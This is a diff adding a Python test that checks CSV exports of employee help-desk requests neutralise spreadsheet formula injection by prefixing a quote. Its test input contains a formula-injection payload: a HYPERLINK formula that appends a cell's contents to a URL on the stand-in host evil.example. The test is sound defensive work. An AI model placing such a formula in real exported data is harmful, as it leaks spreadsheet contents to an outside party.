@@ -60,6 +60,21 @@ def test_requests_list_show_and_export(
     assert [line["query"] for line in lines] == ["VPN drops every hour", "Printer offline"]
 
 
+def test_exported_csv_cells_are_text_never_formulas(env: dict[str, str]) -> None:
+    """Any employee writes a request's question and description; in the agents'
+    spreadsheet an `=`, `+`, `-` or `@` at the start made them live formulas."""
+    store = create_store(env["KB_DATABASE_URL"])
+    service = RequestService.from_settings(Settings.load(environ=env), store, clock=Clock())
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Details")'
+    service.submit(EMPLOYEE, formula, description="@SUM(1+1)", department="it")
+    store.close()
+    [row] = list(csv.DictReader(io.StringIO(run_kb(env, "requests", "export").output)))
+    assert (row["query"], row["description"]) == ("'" + formula, "'@SUM(1+1)")
+    assert row["id"] == "1"
+    jsonl = run_kb(env, "requests", "export", "--format", "jsonl").output
+    assert json.loads(jsonl)["query"] == formula  # JSON is data, not a sheet: unchanged
+
+
 def test_requests_deliver(env: dict[str, str], filed: list[int]) -> None:
     # IT's webhook (setting webhooks; port 9, nobody listens) gets every IT event.
     result = run_kb(env, "requests", "deliver")
